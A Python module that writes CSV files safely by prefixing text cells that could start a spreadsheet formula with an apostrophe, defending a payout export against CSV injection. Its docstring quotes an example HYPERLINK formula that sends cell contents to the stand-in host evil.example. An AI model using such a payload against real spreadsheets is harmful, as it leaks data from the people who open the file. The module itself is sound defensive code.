"""The one way we write CSV: every text cell neutralised against spreadsheet formula injection.

A CSV is data to us, but Excel, LibreOffice and Google Sheets run a cell that starts with "=", "+", "-" or
"@" as a formula: a supplier whose account holder is `=HYPERLINK("https://evil.example/?d="&A1, "Pay")`
gets a live link (or worse) on the operator's machine when the payout file is opened. Following OWASP's CSV
injection advice, a text cell whose first character could start a formula is prefixed with an apostrophe,
which spreadsheets read as "this is text" and do not show; tab, carriage return, line feed and NUL count too
(some programs skip them before looking for "="), and so do the fullwidth "＝＋－＠" that some locales
take for the ASCII ones. Leading spaces are looked through for the same reason.

Numbers (int, Decimal) are written as they are: "-5.00" as a Decimal is an amount, not a formula, and a
bank's importer must still read it as one. Pass amounts as numbers and names as text.

The rest of the code imports `writer` from here, never `csv.writer` or `csv.DictWriter`
(tests/test_csv_export.py greps for them). Reading CSV (`csv.reader`, `csv.DictReader`) is unaffected.
"""

import csv
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")


def safe_cell(value):
    """`value` as a CSV cell that no spreadsheet will run: text starting like a formula gets a leading "'";
    numbers pass unchanged; None is an empty cell."""
    if value is None:
        return ""
    if isinstance(value, (int, Decimal)) and not isinstance(value, bool):
        return value
    text = str(value)
    if text.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + text
    return text


class SafeWriter:
    """csv.writer's writerow/writerows with every cell passed through `safe_cell`."""

    def __init__(self, out, **options):
        self._writer = csv.writer(out, **options)

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(out, **options) -> SafeWriter:
    """A CSV writer on `out` (a text file or StringIO); `options` are csv.writer's (dialect, delimiter...)."""
    return SafeWriter(out, **options)
